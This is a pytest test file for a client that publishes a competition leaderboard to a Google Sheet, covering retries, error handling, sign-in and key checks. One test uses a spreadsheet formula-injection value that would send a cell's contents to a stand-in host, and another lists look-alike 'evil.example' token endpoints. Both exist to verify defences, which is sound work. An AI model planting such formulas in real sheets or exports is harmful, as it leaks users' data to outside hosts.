"""A board in a Google Sheet: through gspread's client and Google's sign-in, against a fake held to Google's word."""

from __future__ import annotations

import copy
import json
import re
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from typing import TYPE_CHECKING, Any

import pytest

from mailbot.board.build import build
from mailbot.board.sheet import http as sheet_http
from mailbot.board.sheet.client import Sheets
from mailbot.board.sheet.worksheets import Published, pages
from mailbot.config.calendar import Moment
from mailbot.demo.sheets import ACCOUNT
from mailbot.errors import ConfigError, MailbotError, SheetRefused, Temporary, Throttled
from tests.servers.sheets import BOOK, SCOPE, StrictSheets
from tests.unit import boards

if TYPE_CHECKING:
    from collections.abc import Sequence

    from mailbot.board.sheet.worksheets import Page
    from mailbot.demo.book import Worksheet

WEDNESDAY = Moment.parse("wed 10:00")
TITLES = ["Overall", "SIQA-U", "SIQA-S", "History", "About", "Sheet1"]
GET, LOOKS, CELLS = "get", "batchUpdate", "values.batchUpdate"
BOARD = [GET, LOOKS, CELLS]


@dataclass
class Waits:
    """Notes how long the client would have waited, and lets no time pass."""

    seconds: list[float] = field(default_factory=list)
    #: Whether it is time to end.
    stop: bool = False

    def __call__(self, seconds: float) -> bool:
        """Wait."""
        self.seconds.append(seconds)
        return self.stop


@pytest.fixture
def waits() -> Waits:
    """Give what the client waits with."""
    return Waits()


@pytest.fixture
def sheets(google: StrictSheets, waits: Waits) -> Sheets:
    """Give a client of the fake; chance always falls on the middle."""
    return Sheets(google.key, api=google.url, timeout=5, wait=waits, jitter=lambda: 0.5)


def of(standings: Sequence[Any], **changes: object) -> tuple[Page, ...]:
    """Return the pages of a board of these standings."""
    made = build(standings, boards.rules(**changes), boards.AS_OF)
    return pages([Published(board=made, published_at=boards.AS_OF, weekly=True)], WEDNESDAY, boards.SHANGHAI)


def dozen() -> tuple[Page, ...]:
    """Return the pages of the board of twelve teams."""
    return of(boards.dozen())


def cells(worksheet: Worksheet) -> list[list[Any]]:
    """Return all cells of a worksheet, "" for the empty ones."""
    rows, columns = worksheet.size
    return [[worksheet.values.get((row, column), "") for column in range(columns)] for row in range(rows)]


def state(google: StrictSheets) -> dict[str, Any]:
    """Return all that can be seen of the spreadsheet."""
    return {one.title: (one.properties, cells(one), one.formats, one.widths) for one in google.book.worksheets.values()}


def api(google: StrictSheets) -> list[str]:
    """Return the calls without those for a token."""
    return [call for call in google.calls if call != "token"]


# --- what is written -------------------------------------------------------------------------


def test_a_board_takes_three_requests(google: StrictSheets, sheets: Sheets) -> None:
    """Which worksheets there are, how they look, what they hold: the first time, and each time after."""
    sheets.show(BOOK, dozen())
    assert google.calls == ["token", *BOARD]
    sheets.show(BOOK, dozen())
    assert google.calls == ["token", *BOARD, *BOARD]
    assert sheets.sent == 6


def test_every_cell_is_there(google: StrictSheets, sheets: Sheets) -> None:
    """Each page is in a worksheet of its name, before the sheet that was there, and holds just its cells."""
    made = dozen()
    sheets.show(BOOK, made)
    ordered = sorted(google.book.worksheets.values(), key=lambda one: int(one.properties["index"]))
    assert [one.title for one in ordered] == TITLES
    for page in made:
        assert cells(google.book.named(page.title)) == page.cells


def test_writing_again_changes_nothing(google: StrictSheets, sheets: Sheets) -> None:
    """The same board twice is the same sheet; nothing is appended."""
    sheets.show(BOOK, dozen())
    before = copy.deepcopy(state(google))
    sheets.show(BOOK, dozen())
    assert state(google) == before


def test_a_smaller_board_leaves_nothing_of_the_greater(google: StrictSheets, sheets: Sheets) -> None:
    """Rows of teams that are gone are gone, and their gold with them."""
    sheets.show(BOOK, dozen())
    small = of(boards.dozen()[:3], baselines=())
    sheets.show(BOOK, small)
    google_small = state(google)
    assert cells(google.book.named("Overall")) == small[0].cells
    fresh = StrictSheets()
    fresh.start()
    Sheets(fresh.key, api=fresh.url).show(BOOK, small)
    fresh.stop()
    assert state(fresh) == google_small


def test_a_board_of_nobody_can_be_shown(google: StrictSheets, sheets: Sheets) -> None:
    """Before the first submission there is a header with an empty row below it: a sheet cannot be all header."""
    sheets.show(BOOK, of([], baselines=()))
    assert google.book.named("Overall").size[0] == 2
    assert google.book.named("Overall").values[0, 1] == "Team"


def test_the_looks(google: StrictSheets, sheets: Sheets) -> None:
    """Header bold and frozen, numbers with their decimals, a podium, baselines in grey, widths."""
    sheets.show(BOOK, dozen())
    sheet = google.book.named("SIQA-S")
    header = [sheet.values[0, column] for column in range(sheet.size[1])]
    assert sheet.properties["gridProperties"]["frozenRowCount"] == 1
    assert sheet.formats[0, 0]["textFormat"]["bold"] is True
    patterns = {title: sheet.formats[1, n].get("numberFormat", {}).get("pattern") for n, title in enumerate(header)}
    assert patterns["Perception SRCC"] == "0.0000"
    assert patterns["Final score"] == "0.00"
    assert patterns["Date (Asia/Shanghai)"] == "yyyy-mm-dd hh:mm"
    assert patterns["Team"] is None
    colours = [_colour(sheet, row) for row in range(1, sheet.size[0])]
    assert len(set(colours[:3])) == 3  # gold, silver, bronze
    ranked = [row for row in range(1, sheet.size[0]) if isinstance(sheet.values[row, 0], int)]
    grey = {colours[row - 1] for row in range(1, sheet.size[0]) if sheet.values[row, 0] == "baseline"}
    assert len(grey) == 1
    assert not grey & {colours[row - 1] for row in ranked}
    assert sheet.widths[1] > sheet.widths[0]


def _colour(sheet: Worksheet, row: int) -> str:
    return json.dumps(sheet.formats[row, 0].get("backgroundColorStyle"))


def test_text_that_looks_like_a_formula_is_text(google: StrictSheets, sheets: Sheets) -> None:
    """It is written RAW and guarded, so that neither Sheets nor a program that opens the download runs it."""
    evil = [boards.standing('=IMPORTDATA("http://x.example/"&A1)', "siqa-s", 50.0, method="@SUM(1)")]
    sheets.show(BOOK, of(evil, baselines=()))
    sheet = google.book.named("SIQA-S")
    assert [sheet.values[1, 1], sheet.values[1, 2]] == ['\'=IMPORTDATA("http://x.example/"&A1)', "'@SUM(1)"]


# --- other people's sheets -------------------------------------------------------------------


def test_a_persons_sheets_stay(google: StrictSheets, sheets: Sheets) -> None:
    """Even one that is named as ours would be; ours then takes another name, and keeps it."""
    google.book.add({"sheetId": 77, "title": "ABOUT"})
    google.book.put("ABOUT!A1:A1", [["my notes"]], raw=True)
    sheets.show(BOOK, dozen())
    sheets.show(BOOK, dozen())
    assert google.book.worksheets[77].values == {(0, 0): "my notes"}
    assert google.book.named("About (mailbot)").values[0, 0] == "About"
    assert len(google.book.worksheets) == 7


def test_a_sheet_that_a_person_renamed_is_still_ours(google: StrictSheets, sheets: Sheets) -> None:
    """It keeps the name it was given, quotes and all, and its place."""
    sheets.show(BOOK, dozen())
    google.book.named("Overall").properties["title"] = "Liam's top! 总榜"
    small = of(boards.dozen()[:2])
    sheets.show(BOOK, small)
    assert cells(google.book.named("Liam's top! 总榜")) == small[0].cells
    assert len(google.book.worksheets) == 6


def test_a_sheet_removed_in_between_is_made_anew(google: StrictSheets, sheets: Sheets) -> None:
    """What Google then refuses as impossible is repeated from the beginning, once."""
    sheets.show(BOOK, dozen())
    overall = google.book.named("Overall").properties["sheetId"]
    google.calls.clear()
    google.before(lambda: google.book.worksheets.pop(overall), at=LOOKS)
    sheets.show(BOOK, dozen())
    assert api(google) == [GET, LOOKS, *BOARD]
    assert cells(google.book.named("Overall")) == dozen()[0].cells


# --- when something fails --------------------------------------------------------------------


@pytest.mark.parametrize("method", BOARD)
@pytest.mark.parametrize("status", [408, 429, 500, 502, 503, 504])
def test_what_may_pass_is_tried_again(
    google: StrictSheets, sheets: Sheets, waits: Waits, method: str, status: int
) -> None:
    """After pauses whose ceiling doubles, with chance in the middle."""
    google.refuse(status, at=method, times=2)
    sheets.show(BOOK, dozen())
    assert waits.seconds == [0.5, 1.0]
    assert cells(google.book.named("Overall")) == dozen()[0].cells


@pytest.mark.parametrize("status", [429, 500, 503])
def test_patience_ends(google: StrictSheets, sheets: Sheets, waits: Waits, status: int) -> None:
    """After four tries the client gives up; whoever called may come back later."""
    google.refuse(status, times=9)
    with pytest.raises(Temporary, match=str(status)) as raised:
        sheets.show(BOOK, dozen())
    assert isinstance(raised.value, Throttled) == (status == 429)
    assert api(google) == [GET] * sheet_http.TRIES
    assert waits.seconds == [0.5, 1.0, 2.0]


def test_chance_spreads_the_pauses(google: StrictSheets) -> None:
    """Full jitter: from nothing up to the ceiling, which does not grow for ever."""
    for chance, expected in ((0.0, [0.0, 0.0, 0.0]), (1.0, [1.0, 2.0, 4.0])):
        google.refuse(503, times=4)
        waits = Waits()
        client = Sheets(google.key, api=google.url, wait=waits, jitter=iter([chance] * 3).__next__)
        with pytest.raises(Temporary):
            client.check(BOOK)
        assert waits.seconds == expected


@pytest.mark.parametrize("form", ["seconds", "date"])
def test_retry_after_is_honoured(google: StrictSheets, sheets: Sheets, waits: Waits, form: str) -> None:
    """In both forms that HTTP knows, also where it is longer than our own pause."""
    after = "7" if form == "seconds" else format_datetime(datetime.now(UTC) + timedelta(seconds=8), usegmt=True)
    google.refuse(429, at=CELLS, Retry_After=after)
    sheets.show(BOOK, dozen())
    (waited,) = waits.seconds
    assert 6 < waited <= 8


def test_a_long_retry_after_is_left_to_the_caller(google: StrictSheets, sheets: Sheets, waits: Waits) -> None:
    """Nobody sleeps for minutes; the error says when to come back."""
    google.refuse(429, Retry_After="600")
    with pytest.raises(Throttled) as raised:
        sheets.show(BOOK, dozen())
    assert (raised.value.seconds, waits.seconds) == (600, [])


def test_an_end_of_waiting_ends_the_tries(google: StrictSheets, sheets: Sheets, waits: Waits) -> None:
    """When the daemon is told to stop during a pause, it does not ask again."""
    waits.stop = True
    google.refuse(503, times=4)
    with pytest.raises(Temporary):
        sheets.show(BOOK, dozen())
    assert api(google) == [GET]


@pytest.mark.parametrize("method", BOARD)
@pytest.mark.parametrize("done", [False, True])
def test_a_broken_connection_is_tried_again(google: StrictSheets, sheets: Sheets, method: str, *, done: bool) -> None:
    """Whether or not Google did what was asked before the answer was lost, the sheet is right in the end."""
    google.reset(at=method, done=done)
    sheets.show(BOOK, dozen())
    for page in dozen():
        assert cells(google.book.named(page.title)) == page.cells
    assert len(google.book.worksheets) == 6


def test_a_silent_server_counts_as_gone(google: StrictSheets, waits: Waits) -> None:
    """It is left after the timeout, as often as any other fault."""
    google.stall(0.5, times=9)
    with pytest.raises(Temporary, match=r"cannot be reached: (ReadTimeout|ConnectTimeout|TransportError)"):
        Sheets(google.key, api=google.url, timeout=0.1, wait=waits).show(BOOK, dozen())
    assert len(waits.seconds) == sheet_http.TRIES - 1
    google.heal()


def test_no_server_at_all(google: StrictSheets, waits: Waits) -> None:
    """A machine without a network says so in one word."""
    gone = Sheets(google.key, api="http://127.0.0.1:9", wait=waits)
    with pytest.raises(Temporary, match="Google cannot be reached: ConnectionError"):
        gone.show(BOOK, dozen())


@pytest.mark.parametrize("method", BOARD)
def test_a_write_that_died_halfway_is_repeated_whole(google: StrictSheets, sheets: Sheets, method: str) -> None:
    """Wherever the first one ended, the next gives the same sheet as if nothing had happened."""
    sheets.show(BOOK, of(boards.dozen()[:4]))
    google.refuse(503, at=method, times=sheet_http.TRIES)
    with pytest.raises(Temporary):
        sheets.show(BOOK, dozen())
    google.heal()
    sheets.show(BOOK, dozen())
    for page in dozen():
        assert cells(google.book.named(page.title)) == page.cells
    assert sorted(one.title for one in google.book.worksheets.values()) == sorted(TITLES)


PROJECT = "Google Sheets API has not been used in project 12 before or it is disabled."


@pytest.mark.parametrize(
    ("status", "message", "fix"),
    [
        (400, "This operation is not supported for this document", "saved as Google Sheets"),
        (401, "Request had invalid authentication credentials.", "make a new key"),
        (403, "The caller does not have permission", f"share the sheet with {ACCOUNT} as an editor"),
        (403, PROJECT, "enable the Google Sheets API"),
        (404, "Requested entity was not found.", "copy its address"),
        (418, "I'm a teapot", "docs/operations/sheet.md"),
    ],
    ids=["office-file", "key-revoked", "not-shared", "api-disabled", "wrong-id", "unheard-of"],
)
def test_a_refusal_names_its_mend(google: StrictSheets, sheets: Sheets, status: int, message: str, fix: str) -> None:
    """What nobody but a person can fix is not tried again as it is."""
    google.refuse(status, message, times=4)
    with pytest.raises(SheetRefused, match=re.escape(message)) as raised:
        sheets.show(BOOK, dozen())
    assert fix in raised.value.fix
    assert len(api(google)) == {400: 2, 401: 3}.get(status, 1)  # google-auth asks for new tokens after a 401


@pytest.mark.parametrize(
    ("status", "body", "error"),
    [
        (502, b"<html>Bad Gateway</html>", Temporary),
        (403, {"error": "forbidden"}, SheetRefused),
        (403, b"[]", SheetRefused),
        (200, b"<html>Please log in to the hotel's network</html>", Temporary),
        (200, {}, Temporary),
        (200, [], Temporary),
    ],
    ids=["proxy-html", "error-is-text", "list", "portal", "empty", "list-for-success"],
)
def test_an_answer_that_is_not_googles(
    google: StrictSheets, sheets: Sheets, status: int, body: object, error: type[MailbotError]
) -> None:
    """Proxies and portals answer in Google's place; nothing but our own errors comes of it."""
    for _ in range(sheet_http.TRIES):
        google.answer_with(status, body)
    with pytest.raises(error):
        sheets.show(BOOK, dozen())


# --- signing in ------------------------------------------------------------------------------


def test_spreadsheets_are_all_that_is_asked_for(google: StrictSheets, sheets: Sheets) -> None:
    """The scope is spreadsheets: no file of anybody's Drive can be listed."""
    sheets.check(BOOK)
    assert google.claims["scope"] == SCOPE
    assert sheets.account == google.claims["iss"] == ACCOUNT


@pytest.mark.parametrize(
    ("said", "fix"),
    [
        ("Invalid JWT: Token must be a short-lived token (60 minutes) and in a reasonable timeframe.", "clock"),
        ("Invalid JWT Signature.", "new key"),
        ("Invalid grant: account not found", "new key"),
        ("The account has been disabled.", "enable the service account"),
    ],
    ids=["clock", "signature", "no-account", "disabled"],
)
def test_a_refused_sign_in_names_its_mend(google: StrictSheets, sheets: Sheets, said: str, fix: str) -> None:
    """A key that was revoked, and a clock that is wrong."""
    google.answer_with(400, {"error": "invalid_grant", "error_description": said}, at="token")
    with pytest.raises(SheetRefused, match="refuses the service account") as raised:
        sheets.check(BOOK)
    assert fix in raised.value.fix


def test_a_token_endpoint_that_fails_is_no_refusal(
    google: StrictSheets, sheets: Sheets, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is tried again by google-auth, then by us, and then it is trouble that may pass."""
    monkeypatch.setattr("time.sleep", lambda _: None)
    google.refuse(503, at="token", times=99)
    with pytest.raises(Temporary, match="token endpoint"):
        sheets.check(BOOK)
    assert set(google.calls) == {"token"}
    google.heal()


@pytest.mark.parametrize(
    "spoil",
    [
        lambda _: b"",
        lambda _: b"\xff\xfe",
        lambda _: b"[]",
        lambda _: b'"text"',
        lambda key: json.dumps(json.loads(key) | {"private_key": "-----BEGIN PRIVATE KEY-----"}).encode(),
        lambda key: json.dumps({k: v for k, v in json.loads(key).items() if k != "client_email"}).encode(),
        lambda key: json.dumps({"installed": json.loads(key)}).encode(),
    ],
    ids=["empty", "binary", "list", "text", "cut-key", "no-email", "oauth-client"],
)
def test_a_file_that_is_no_key(google: StrictSheets, spoil: Any) -> None:  # noqa: ANN401  # a function of a test
    """It is refused with a word on where to get one, and nothing of it is told."""
    with pytest.raises(ConfigError, match="not a key of a service account") as raised:
        Sheets(spoil(google.key))
    assert "PRIVATE" not in str(raised.value)


@pytest.mark.parametrize(
    ("token_uri", "api", "fine"),
    [
        ("https://oauth2.googleapis.com/token", "https://sheets.googleapis.com", True),
        ("https://accounts.google.com/o/oauth2/token", "https://sheets.googleapis.com", True),
        ("http://oauth2.googleapis.com/token", "https://sheets.googleapis.com", False),
        ("https://oauth2.googleapis.com.evil.example/token", "https://sheets.googleapis.com", False),
        ("http://127.0.0.1:8000/token", "https://sheets.googleapis.com", False),
        ("http://127.0.0.1:8000/token", "http://127.0.0.1:8000", True),
        ("https://oauth2.googleapis.com/token", "http://127.0.0.1:8000", False),
        ("https://oauth2.googleapis.com/token", "https://sheets.evil.example", False),
    ],
    ids=["google", "google-of-old", "plain-http", "look-alike", "half-fake", "fake", "real-key-fake-api", "other-api"],
)
def test_only_google_or_this_machine_is_asked(google: StrictSheets, token_uri: str, api: str, *, fine: bool) -> None:
    """No key file and no caller can have a token sent to anybody else."""
    key = json.dumps(json.loads(google.key) | {"token_uri": token_uri}).encode()
    if fine:
        assert Sheets(key, api=api).account == ACCOUNT
    else:
        with pytest.raises(ConfigError):
            Sheets(key, api=api)


# --- reading ---------------------------------------------------------------------------------


def test_the_difference(google: StrictSheets, sheets: Sheets) -> None:
    """Each cell that writing would change, and none when the sheet is as it should be; reading changes nothing."""
    made = dozen()
    everything = sheets.difference(BOOK, made)
    assert {change.before for change in everything} == {""}
    assert len(everything) == sum(cell != "" for page in made for row in page.cells for cell in row)
    sheets.show(BOOK, made)
    assert sheets.difference(BOOK, made) == []
    google.book.named("Overall").values[1, 1] = "Somebody else"
    google.book.named("Overall").values[2, 4] = str(google.book.named("Overall").values[2, 4])
    google.calls.clear()
    changes = sheets.difference(BOOK, made)
    assert [(c.place, c.before) for c in changes] == [
        ("Overall!B2", "Somebody else"),
        ("Overall!E3", str(made[0].cells[2][4])),
    ]
    assert api(google) == [GET, "values.batchGet"]


def test_the_difference_names_rows_that_go(sheets: Sheets) -> None:
    """Cells of a team that is gone would be emptied."""
    sheets.show(BOOK, dozen())
    first, *rest = dozen()
    short = replace(first, rows=first.rows[:-1], tints=first.tints[:-1])
    gone = [change for change in sheets.difference(BOOK, (short, *rest)) if change.after == ""]
    assert len(gone) == sum(cell != "" for cell in first.rows[-1])
    assert all(change.place.endswith(str(len(first.rows) + 1)) for change in gone)


def test_rows_are_read_as_people_see_them(google: StrictSheets, sheets: Sheets) -> None:
    """By the worksheet's name, or the first one; nothing is written."""
    google.book.put("'Sheet1'!A1:C2", [["Team", "E-mail", ""], ["Ünï", "a@x.example", 3]], raw=True)
    rows = [["Team", "E-mail"], ["Ünï", "a@x.example", "3"]]
    assert sheets.read_rows(BOOK, "Sheet1") == rows
    assert sheets.read_rows(BOOK) == rows
    assert api(google) == ["values.get", "values.get"]


def test_an_empty_worksheet_has_no_rows(sheets: Sheets) -> None:
    """Not even an empty one."""
    assert sheets.read_rows(BOOK, "Sheet1") == []


def test_a_worksheet_that_is_not_there(sheets: Sheets) -> None:
    """Google cannot make a range of it, and says so."""
    with pytest.raises(SheetRefused, match="Unable to parse range"):
        sheets.read_rows(BOOK, "Form Responses 1")


def test_the_check_writes_what_is_there(google: StrictSheets, sheets: Sheets) -> None:
    """It sees the title, and by writing the very same title that writing is allowed."""
    google.book.title = "SIQA leaderboard"
    before = copy.deepcopy(state(google))
    assert sheets.check(BOOK) == "SIQA leaderboard"
    assert state(google) == before
    google.refuse(403, "The caller does not have permission", at=LOOKS)
    with pytest.raises(SheetRefused, match=ACCOUNT):
        sheets.check(BOOK)
